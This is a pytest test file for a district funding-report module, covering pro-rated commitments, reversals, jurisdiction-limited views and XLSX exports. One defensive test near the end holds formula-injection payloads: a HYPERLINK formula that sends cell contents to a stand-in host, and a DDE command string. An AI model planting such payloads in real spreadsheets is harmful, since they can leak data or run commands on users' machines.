"""The funding report (经费到位): committed, transferred and spent money and the delivery rate by
admission, department, street, community and year, each reader seeing their own jurisdiction,
and the XLSX exports of the report and of the whole ledger."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from jianfu.admission.models import Admission, AdmissionScope
from jianfu.admission.tests.conftest import CHENGDONG, JIANDAOJIE, XILIN, ZHONGGULOU
from jianfu.core.money import format_wan
from jianfu.funds import selectors, services
from jianfu.funds.models import Posting
from jianfu.funds.selectors import funding_report
from jianfu.funds.tests.conftest import YEAR, admission_row, page, person, spend, transfer
from jianfu.org.models import Unit
from jianfu.org.roles import Role

pytestmark = pytest.mark.django_db

CHENGXI = "511002002000"
# 钟鼓楼 10,000 and 箭道街 8,000 yuan a year, for a term from 1 July 2026 to 30 June 2027:
# 184 days of 2026 and 181 of 2027, pro-rated to the fen.
ZHONGGULOU_2026, JIANDAOJIE_2026 = 504_110, 403_288
ZHONGGULOU_2027, JIANDAOJIE_2027 = 495_890, 396_712


@pytest.fixture
def funded(personas, budget, admission, voucher):
    """民政局's admission for 钟鼓楼 and 箭道街 (1 July 2026 – 30 June 2027): 3,000 and 2,000
    yuan transferred, a mistaken 1,000 transferred and reversed, 1,200 spent in 钟鼓楼 and a
    mistaken 300 spent and reversed; 500 yuan transferred to 钟鼓楼 for 2027. And a second
    admission for 西林社区 (城西街道), 5,000 yuan a year, of which 1,000 transferred."""
    Admission.objects.filter(pk=admission.pk).update(
        valid_from=dt.date(2026, 7, 1), valid_until=dt.date(2027, 6, 30)
    )
    admission.refresh_from_db()
    transfer(personas, budget, admission, [(ZHONGGULOU, 300_000), (JIANDAOJIE, 200_000)])
    mistaken = transfer(personas, budget, admission, [(ZHONGGULOU, 100_000)])
    services.ledger_reverse(actor=personas.dept_clerk, original=mistaken, reason="重复拨付")
    spend(personas, admission, 120_000, voucher)
    wrong = spend(personas, admission, 30_000, voucher)
    services.ledger_reverse(actor=personas.street_officer, original=wrong, reason="金额有误")
    transfer(personas, budget, admission, [(ZHONGGULOU, 50_000)], year=2027)
    xilin = admission_row(personas, scope={XILIN: 500_000})
    transfer(personas, budget, xilin, [(XILIN, 100_000)])
    return admission, xilin


def money(rows):
    return {row.name: (row.committed, row.transferred, row.spent) for row in rows}


# 万元 ------------------------------------------------------------------------------------------


def test_format_wan_reads_fen_as_ten_thousands_of_yuan_rounded_half_up():
    assert format_wan(91500_00) == "9.15"
    assert format_wan(0) == "0.00"
    assert format_wan(123_456_789) == "123.46"
    assert format_wan(5_000) == "0.01"  # 50 yuan is half of 0.01 万元
    assert format_wan(4_999) == "0.00"
    assert format_wan(-50_000) == "-0.05"
    assert format_wan(12_345_000_000) == "12,345.00"


# The numbers ------------------------------------------------------------------------------------


def test_report_by_admission_nets_reversals_and_prorates_the_commitment(personas, funded):
    admission, xilin = funded
    rows = funding_report(user=personas.finance_officer, year=YEAR, by="admission")
    assert [row.admission_id for row in rows] == [admission.pk, xilin.pk]
    first = rows[0]
    assert (first.name, first.detail, first.department) == (
        admission.number,
        "高龄津贴申领初审",
        "市中区民政局",
    )
    assert first.committed == ZHONGGULOU_2026 + JIANDAOJIE_2026
    # The reversed transfer and the reversed spend count for nothing.
    assert (first.transferred, first.spent, first.left) == (500_000, 120_000, 380_000)
    assert first.delivery_rate == pytest.approx(500_000 / 907_398)
    assert first.owed == 907_398 - 500_000
    assert money(rows[1:]) == {xilin.number: (500_000, 100_000, 0)}


def test_report_by_community_splits_each_admissions_money(personas, funded):
    rows = funding_report(user=personas.finance_officer, year=YEAR, by="community")
    assert [(row.key, row.name, row.detail) for row in rows] == [
        (ZHONGGULOU, "钟鼓楼社区", "城东街道"),
        (JIANDAOJIE, "箭道街社区", "城东街道"),
        (XILIN, "西林社区", "城西街道"),
    ]
    assert money(rows) == {
        "钟鼓楼社区": (ZHONGGULOU_2026, 300_000, 120_000),
        "箭道街社区": (JIANDAOJIE_2026, 200_000, 0),
        "西林社区": (500_000, 100_000, 0),
    }


def test_report_by_street_and_by_department_add_their_communities_up(personas, funded):
    streets = funding_report(user=personas.finance_officer, year=YEAR, by="street")
    assert [row.key for row in streets] == [CHENGDONG, CHENGXI]
    assert money(streets) == {
        "城东街道": (ZHONGGULOU_2026 + JIANDAOJIE_2026, 500_000, 120_000),
        "城西街道": (500_000, 100_000, 0),
    }
    departments = funding_report(user=personas.finance_officer, year=YEAR, by="department")
    assert money(departments) == {
        "市中区民政局": (ZHONGGULOU_2026 + JIANDAOJIE_2026 + 500_000, 600_000, 120_000)
    }


def test_report_over_all_years_by_year_counts_each_budget_year(personas, funded):
    rows = funding_report(user=personas.finance_officer, year=None, by="year")
    assert money(rows) == {
        "2026": (ZHONGGULOU_2026 + JIANDAOJIE_2026 + 500_000, 600_000, 120_000),
        "2027": (ZHONGGULOU_2027 + JIANDAOJIE_2027, 50_000, 0),
    }
    # Over the whole term the commitment is the yearly funding, to the fen.
    admission, _xilin = funded
    whole = funding_report(user=personas.finance_officer, year=None, by="admission")
    assert money(whole)[admission.number] == (1_800_000, 550_000, 120_000)
    only_2027 = funding_report(user=personas.finance_officer, year=2027, by="community")
    assert money(only_2027) == {
        "钟鼓楼社区": (ZHONGGULOU_2027, 50_000, 0),
        "箭道街社区": (JIANDAOJIE_2027, 0, 0),
    }


def test_report_agrees_with_funding_of(personas, funded):
    admission, _xilin = funded
    rows = funding_report(
        user=personas.finance_officer, year=YEAR, by="community", admission_id=admission.pk
    )
    expected = selectors.funding_of(admission=admission, year=YEAR)
    assert {(r.key, r.committed, r.transferred, r.spent) for r in rows} == {
        (f.region_id, f.committed, f.transferred, f.spent) for f in expected
    }


def test_report_prorates_a_revoked_community_only_up_to_its_revocation(personas, funded):
    """An admission revoked in one community on 1 October 2026 commits there 92 days of 2026
    (1 July – 30 September) and nothing in 2027; its other communities keep their full term."""
    admission, _xilin = funded
    AdmissionScope.objects.filter(admission=admission, region_id=JIANDAOJIE).update(
        revoked_on=dt.date(2026, 10, 1)
    )
    jiandaojie_92_days = 201_644
    for by in ("community", "admission"):
        rows = funding_report(
            user=personas.finance_officer, year=YEAR, by=by, admission_id=admission.pk
        )
        assert sum(row.committed for row in rows) == ZHONGGULOU_2026 + jiandaojie_92_days
    rows = funding_report(user=personas.finance_officer, year=2027, by="community")
    assert money(rows) == {"钟鼓楼社区": (ZHONGGULOU_2027, 50_000, 0), "箭道街社区": (0, 0, 0)}


# (valid from, valid until, revoked on) of a scope row's term, as committed_fen meets them.
TERMS = [
    (dt.date(2026, 1, 1), dt.date(2026, 12, 31), None),
    (dt.date(2026, 7, 1), dt.date(2027, 6, 30), None),
    (dt.date(2025, 3, 1), dt.date(2026, 2, 28), None),
    (dt.date(2026, 7, 1), dt.date(2027, 6, 30), dt.date(2026, 10, 1)),
    (dt.date(2026, 7, 1), dt.date(2027, 6, 30), dt.date(2026, 7, 1)),  # revoked on day one
    (dt.date(2026, 7, 1), dt.date(2027, 6, 30), dt.date(2026, 3, 1)),  # revoked before it began
    (dt.date(2026, 12, 31), dt.date(2027, 1, 1), None),  # one day of each year
    (dt.date(2024, 1, 1), dt.date(2028, 12, 31), dt.date(2028, 2, 29)),  # two leap years
    (dt.date(2027, 1, 1), dt.date(2027, 12, 31), dt.date(2027, 1, 1)),
]


def test_committed_fen_in_sql_agrees_with_committed_fen_to_the_fen(personas, budget):
    """CommittedFen (pro-rating in the database, which the burden index sums) and committed_fen
    (in Python, row by row) agree for every term, revocation and year, leap years included."""
    for index, (valid_from, valid_until, revoked_on) in enumerate(TERMS):
        admission = admission_row(personas, scope={ZHONGGULOU: 1_000_003 + 7_919 * index})
        Admission.objects.filter(pk=admission.pk).update(
            valid_from=valid_from, valid_until=valid_until
        )
        AdmissionScope.objects.filter(admission=admission).update(revoked_on=revoked_on)
    rows = AdmissionScope.objects.filter(region_id=ZHONGGULOU).select_related("admission")
    compared = 0
    for year in range(2024, 2029):
        for row in rows.annotate(in_sql=selectors.CommittedFen(year)):
            expected = selectors.committed_fen(row.funding_fen, row.admission, year, row.revoked_on)
            assert row.in_sql == expected, (row.admission.valid_from, row.revoked_on, year)
            compared += expected > 0
    assert compared >= 12  # most terms commit money in some year, not only nothing


def test_report_counts_a_commitment_with_no_money_as_owed(personas, budget):
    admission = admission_row(personas, scope={JIANDAOJIE: 200_000})
    [row] = funding_report(user=personas.finance_officer, year=YEAR, by="admission")
    assert (row.committed, row.transferred, row.delivery_rate, row.owed) == (200_000, 0, 0, 200_000)
    assert row.admission_id == admission.pk
    assert funding_report(user=personas.finance_officer, year=2030, by="admission") == []


def test_report_keeps_money_whose_scope_row_is_gone(personas, funded):
    """Money moved for a community the admission no longer names still shows, committed 0."""
    admission, xilin = funded
    AdmissionScope.objects.filter(admission=admission, region_id=JIANDAOJIE).delete()
    rows = funding_report(
        user=personas.finance_officer, year=YEAR, by="community", admission_id=admission.pk
    )
    assert money(rows) == {
        "钟鼓楼社区": (ZHONGGULOU_2026, 300_000, 120_000),
        "箭道街社区": (0, 200_000, 0),
    }
    assert rows[1].detail == "城东街道"
    AdmissionScope.objects.filter(admission=xilin).delete()
    rows = funding_report(user=personas.finance_officer, year=YEAR, by="admission")
    assert money(rows)[xilin.number] == (0, 100_000, 0)
    assert rows[1].department == "市中区民政局"
    assert money(funding_report(user=personas.finance_officer, year=YEAR, by="street")) == {
        "城东街道": (ZHONGGULOU_2026, 500_000, 120_000),
        "城西街道": (0, 100_000, 0),
    }
    assert money(funding_report(user=personas.finance_officer, year=YEAR, by="department")) == {
        "市中区民政局": (ZHONGGULOU_2026, 600_000, 120_000)
    }


def test_report_refuses_an_unknown_grouping(personas):
    with pytest.raises(ValueError):
        funding_report(user=personas.finance_officer, year=YEAR, by="colour")


# Jurisdiction -----------------------------------------------------------------------------------


def other_department_clerk():
    return person("renshe_clerk", "市中区人社局", Role.DEPT_CLERK)


def test_a_street_sees_only_its_own_communities(personas, funded):
    _admission, xilin = funded
    rows = funding_report(user=personas.street_officer2, year=YEAR, by="community")
    assert money(rows) == {"西林社区": (500_000, 100_000, 0)}
    by_admission = funding_report(user=personas.street_officer2, year=YEAR, by="admission")
    assert [row.admission_id for row in by_admission] == [xilin.pk]
    assert funding_report(user=personas.street_officer, year=YEAR, by="street")[0].key == CHENGDONG
    assert len(funding_report(user=personas.street_officer, year=YEAR, by="community")) == 2


def test_a_community_sees_only_itself(personas, funded):
    admission, _xilin = funded
    rows = funding_report(user=personas.community_officer, year=YEAR, by="admission")
    assert money(rows) == {admission.number: (ZHONGGULOU_2026, 300_000, 120_000)}
    assert money(funding_report(user=personas.community_officer2, year=YEAR, by="community")) == {
        "西林社区": (500_000, 100_000, 0)
    }


def test_a_department_sees_only_its_own_admissions(personas, funded):
    renshe = Unit.objects.get(name="市中区人社局")
    own = admission_row(personas, scope={ZHONGGULOU: 300_000}, department=renshe, title="就业登记")
    clerk = other_department_clerk()
    assert money(funding_report(user=clerk, year=YEAR, by="admission")) == {
        own.number: (300_000, 0, 0)
    }
    assert len(funding_report(user=personas.dept_clerk, year=YEAR, by="admission")) == 2
    # The finance office sees every department of the district.
    assert len(funding_report(user=personas.finance_officer, year=YEAR, by="department")) == 2


def test_nobody_outside_the_district_sees_its_money(personas, funded):
    yunlong_finance = person("yunlong_finance", "云龙区财政局", Role.FINANCE_OFFICER)
    assert funding_report(user=yunlong_finance, year=YEAR, by="community") == []
    assert funding_report(user=personas.system_admin, year=YEAR, by="community") == []
    assert funding_report(user=personas.evaluator, year=YEAR, by="community") == []


def test_the_report_reads_in_a_constant_number_of_queries(
    personas, budget, funded, django_assert_num_queries
):
    """The scope, the money and the admissions; the communities too by street or community."""
    for n in range(6):
        extra = admission_row(
            personas, scope={ZHONGGULOU: 100_000, XILIN: 200_000}, title=f"事项 {n}"
        )
        transfer(personas, budget, extra, [(ZHONGGULOU, 10_000), (XILIN, 20_000)])
    queries = {"admission": 3, "department": 3, "street": 4, "community": 4, "year": 3}
    for by in selectors.REPORT_GROUPINGS:
        for year in (YEAR, None):
            with django_assert_num_queries(queries[by]):
                rows = funding_report(user=personas.finance_officer, year=year, by=by)
            assert rows
        with django_assert_num_queries(queries[by]):
            assert funding_report(
                user=personas.street_officer, year=YEAR, by=by, admission_id=extra.pk
            )
    with django_assert_num_queries(3):
        assert len(funding_report(user=personas.finance_officer, year=None, by="admission")) == 8


# Pages ------------------------------------------------------------------------------------------


def test_report_page_shows_the_summary_in_wan_and_marks_money_owed(personas, login, funded):
    admission, _xilin = funded
    client = login(personas.finance_officer)
    text = page(client.get(reverse("funds_report"), {"year": YEAR, "by": "admission"}))
    # 14,073.98 yuan committed, 6,000 transferred: 42.6%.
    assert "承诺 <strong>1.41</strong> 万元" in text
    assert "到位 <strong>0.60</strong> 万元" in text
    assert "42.6%" in text
    assert text.count('data-testid="report-row"') == 2
    assert text.count('class="owed"') == 2
    assert "9,073.98" in text and "5,000.00" in text  # committed, per admission
    link = reverse("funds_report_admission", args=[admission.pk]) + f"?year={YEAR}"
    assert link in text
    assert "55.1%" in text  # 5,000 of 9,073.98
    assert reverse("funds_ledger_export") in text


def test_report_page_offers_every_grouping_and_all_years(personas, login, funded):
    client = login(personas.finance_officer)
    for by, expected in [
        ("department", "市中区民政局"),
        ("street", "城西街道"),
        ("community", "箭道街社区"),
        ("year", "2027 年"),
    ]:
        text = page(client.get(reverse("funds_report"), {"year": "all", "by": by}))
        assert expected in text, by
        assert 'aria-current="page">' in text
    text = page(client.get(reverse("funds_report"), {"year": "all", "by": "admission"}))
    assert "18,000.00" in text  # the whole term's commitment


def test_report_page_explains_bad_parameters_and_shows_the_default(personas, login, funded):
    text = page(login(personas.finance_officer).get(reverse("funds_report"), {"by": "colour"}))
    assert "没有“colour”这种分组方式" in text
    assert "按准入事项" in text
    text = page(login(personas.finance_officer).get(reverse("funds_report"), {"year": "20x6"}))
    assert "年度“20x6”无效" in text


def test_admission_page_lists_every_community_with_what_is_left(personas, login, funded):
    admission, _xilin = funded
    url = reverse("funds_report_admission", args=[admission.pk])
    text = page(login(personas.dept_clerk).get(url, {"year": YEAR}))
    assert admission.number in text
    assert text.count('data-testid="report-row"') == 2
    assert "钟鼓楼社区" in text and "箭道街社区" in text
    assert "1,800.00" in text  # 钟鼓楼: 3,000 transferred − 1,200 spent
    assert "5,041.10" in text  # 钟鼓楼's pro-rated commitment
    assert "西林社区" not in text
    # A community sees its own line only.
    text = page(login(personas.community_officer).get(url, {"year": YEAR}))
    assert "钟鼓楼社区" in text and "箭道街社区" not in text


def test_another_street_or_department_gets_no_admission_page(personas, login, funded):
    admission, xilin = funded
    url = reverse("funds_report_admission", args=[admission.pk])
    assert login(personas.street_officer2).get(url).status_code == 404
    assert login(personas.community_officer2).get(url).status_code == 404
    assert login(other_department_clerk()).get(url).status_code == 404
    text = page(login(personas.street_officer2).get(reverse("funds_report"), {"year": YEAR}))
    assert admission.number not in text and xilin.number in text
    assert "钟鼓楼" not in text and "箭道街" not in text
    text = page(
        login(personas.street_officer2).get(
            reverse("funds_report"), {"year": YEAR, "by": "community"}
        )
    )
    assert "钟鼓楼社区" not in text and "西林社区" in text


def test_only_those_who_oversee_money_read_the_report(personas, login):
    for persona in ("system_admin", "evaluator", "security_admin"):
        client = login(getattr(personas, persona))
        assert client.get(reverse("funds_report")).status_code == 403, persona
        assert client.get(reverse("funds_report_export")).status_code == 403, persona
    assert login(personas.street_officer).get(reverse("funds_ledger_export")).status_code == 403
    assert login(personas.dept_clerk).get(reverse("funds_ledger_export")).status_code == 403
    response = login(personas.auditor).get(reverse("funds_report"))
    assert response.status_code == 200


def test_navigation_offers_the_report_to_those_who_oversee_money(personas, login):
    def sees(persona):
        return reverse("funds_report") in page(login(getattr(personas, persona)).get("/"))

    for persona in (
        "finance_officer",
        "auditor",
        "dept_clerk",
        "street_officer",
        "group_secretary",
    ):
        assert sees(persona), persona
    assert not sees("system_admin")


def test_report_pages_read_in_a_constant_number_of_queries(
    personas, login, budget, funded, django_assert_max_num_queries
):
    client = login(personas.finance_officer)
    admission, _xilin = funded
    pages = [
        (reverse("funds_report"), {"year": YEAR}),
        (reverse("funds_report_admission", args=[admission.pk]), {"year": YEAR}),
        (reverse("funds_report_export"), {"year": YEAR, "by": "community"}),
        (reverse("funds_ledger_export"), {"year": YEAR}),
    ]
    counts = []
    for url, params in pages:
        with django_assert_max_num_queries(100) as captured:
            client.get(url, params)
        counts.append(len(captured))
    for n in range(5):
        extra = admission_row(personas, scope={ZHONGGULOU: 100_000, XILIN: 100_000}, title=f"{n}")
        transfer(personas, budget, extra, [(ZHONGGULOU, 10_000), (XILIN, 10_000)])
    for (url, params), count in zip(pages, counts, strict=True):
        with django_assert_max_num_queries(count):
            assert client.get(url, params).status_code == 200


# Exports ----------------------------------------------------------------------------------------


def workbook(response):
    assert response.status_code == 200, response.content[:200]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    # The whole ledger of a district: kept out of shared caches.
    assert response["Cache-Control"] == "private, no-store"
    return load_workbook(io.BytesIO(response.content))


def test_report_export_has_the_pages_rows_as_numbers_in_yuan(personas, login, funded):
    response = login(personas.finance_officer).get(
        reverse("funds_report_export"), {"year": YEAR, "by": "community"}
    )
    sheet = workbook(response).active
    assert sheet["A1"].value == "市中区2026 年经费到位情况（按社区）"
    assert [c.value for c in sheet[2]] == [
        "社区",
        "所属街道",
        "承诺金额（元）",
        "到位金额（元）",
        "支出金额（元）",
        "结余（元）",
        "到位率",
    ]
    assert sheet.freeze_panes == "A3"
    zhonggulou = [c.value for c in sheet[3]]
    assert zhonggulou[:2] == ["钟鼓楼社区", "城东街道"]
    assert zhonggulou[2:6] == [5041.10, 3000, 1200, 1800]
    assert zhonggulou[6] == pytest.approx(300_000 / ZHONGGULOU_2026)
    assert sheet["C3"].number_format == "#,##0.00"
    assert sheet["G3"].number_format == "0.0%"
    assert [c.value for c in sheet[5]][:2] == ["西林社区", "城西街道"]
    total = [c.value for c in sheet[6]]
    assert total[0] == "合计" and total[3] == 6000
    assert sheet.max_row == 6


def test_report_export_follows_the_readers_jurisdiction(personas, login, funded):
    _admission, xilin = funded
    response = login(personas.street_officer2).get(
        reverse("funds_report_export"), {"year": YEAR, "by": "admission"}
    )
    sheet = workbook(response).active
    numbers = [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert numbers == [xilin.number]
    bad = login(personas.finance_officer).get(reverse("funds_report_export"), {"by": "colour"})
    assert bad.status_code == 400
    assert "没有“colour”这种分组方式" in bad.content.decode()


def test_ledger_export_has_every_posting_and_every_account_balance(personas, login, funded):
    response = login(personas.auditor).get(reverse("funds_ledger_export"), {"year": "all"})
    book = workbook(response)
    postings, accounts = book.worksheets
    assert postings.freeze_panes == "A3"
    header = [c.value for c in postings[2]]
    assert header[:3] == ["凭证号", "记账时间", "类别"]
    assert "附件 SHA-256" in header and "冲正的凭证号" in header
    rows = list(postings.iter_rows(min_row=3, values_only=True))
    assert len(rows) == Posting.objects.count()
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    spends = [r for r in by_column if r["类别"] == "支出"]
    assert {r["附件"] for r in spends} == {"发票.pdf"}
    assert all(len(r["附件 SHA-256"]) == 64 for r in spends)
    reversals = [r for r in by_column if r["类别"] == "冲正"]
    assert len(reversals) == 4 and all(r["冲正的凭证号"] for r in reversals)
    assert sum(r["金额（元）"] for r in by_column) == 0
    assert postings["I3"].number_format == "#,##0.00"
    account_rows = list(accounts.iter_rows(min_row=3, values_only=True))
    balances = {row[2]: row[6] for row in account_rows}
    assert balances["钟鼓楼社区子账户"] == 3000 + 500 - 1200
    assert balances["钟鼓楼社区支出"] == 1200


def test_ledger_export_of_one_year_and_of_another_district(personas, login, funded):
    client = login(personas.finance_officer)
    rows = list(
        workbook(client.get(reverse("funds_ledger_export"), {"year": 2027}))
        .worksheets[0]
        .iter_rows(min_row=3, values_only=True)
    )
    assert len(rows) == 2 and {row[3] for row in rows} == {2027}
    yunlong_auditor = person("yunlong_auditor", "云龙区审计局", Role.AUDITOR)
    book = workbook(login(yunlong_auditor).get(reverse("funds_ledger_export"), {"year": "all"}))
    assert book.worksheets[0].max_row <= 2
    assert book.worksheets[1].max_row <= 2


def test_exports_write_text_that_looks_like_a_formula_as_text(personas, login, budget):
    """Memos, titles, fund sources and file names are people's words: a spreadsheet must show
    them, never run them (CSV/formula injection)."""
    hyperlink = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")'
    dde = "=cmd|' /C calc'!A0"
    evil = admission_row(personas, scope={XILIN: 100_000}, title="=1+2")
    line = services.budget_line(Unit.objects.get(name="市中区民政局"), "+区级专项")
    services.ledger_appropriate(
        actor=personas.finance_officer, budget=line, amount_fen=100_000, memo="-2+3", year=YEAR
    )
    transfer(personas, line, evil, [(XILIN, 50_000)], memo=hyperlink)
    paper = services.voucher_store(
        actor=personas.street_officer2, name="@SUM(A1).pdf", content=b"x"
    )
    spend(personas, evil, 10_000, paper, code=XILIN, actor=personas.street_officer2, memo=dde)
    client = login(personas.finance_officer)
    ledger = workbook(client.get(reverse("funds_ledger_export"), {"year": YEAR}))
    report = workbook(client.get(reverse("funds_report_export"), {"year": YEAR, "by": "admission"}))
    cells = [
        cell
        for sheet in (*ledger.worksheets, report.active)
        for row in sheet.iter_rows(min_row=3)
        for cell in row
    ]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in (hyperlink, dde, "=1+2", "-2+3", "@SUM(A1).pdf"):
        assert texts[text].data_type == "s"
        # Kept as text even when someone edits the cell in Excel or WPS.
        assert texts[text].quotePrefix
    assert "市中区民政局 · +区级专项" in texts
    assert texts["+区级专项"].quotePrefix


def test_transferred_is_one_rule_on_every_page_in_the_api_and_in_the_tripwire(
    personas, login, funded
):
    """Net of reversals, leaving out spending and its reversal: the report, the commitments,
    the transfer form, a community's page, a task's page and the tripwire agree."""
    admission, _xilin = funded
    expected = {ZHONGGULOU: (300_000, 120_000), JIANDAOJIE: (200_000, 0)}
    report = {
        row.key: (row.transferred, row.spent)
        for row in funding_report(
            user=personas.finance_officer, year=YEAR, by="community", admission_id=admission.pk
        )
    }
    funding = {
        f.region_id: (f.transferred, f.spent)
        for f in selectors.funding_of(admission=admission, year=YEAR)
    }
    community = {}
    for code in expected:
        money = selectors.money_for_community(admission_id=admission.pk, region_id=code, year=YEAR)
        listed = next(
            row
            for row in selectors.community_money(region_id=code, year=YEAR)
            if row.admission == admission
        )
        assert (listed.transferred, listed.spent) == (money.transferred, money.spent)
        community[code] = (money.transferred, money.spent)
    tripwire = selectors.transferred_by_community([admission.pk], YEAR)
    in_scope = selectors.arrived_in_scope(
        AdmissionScope.objects.filter(admission=admission), list(expected), YEAR
    )
    assert report == funding == community == expected
    assert in_scope == {code: transferred for code, (transferred, _spent) in expected.items()}
    assert {code: tripwire[(admission.pk, code)] for code in expected} == {
        code: transferred for code, (transferred, _spent) in expected.items()
    }
    api = login(personas.finance_officer).get(
        "/api/v1/funding/commitments", {"admission": admission.pk, "year": YEAR}
    )
    assert {
        row["region"]: (row["transferred_fen"], row["spent_fen"]) for row in api.json()["items"]
    } == expected
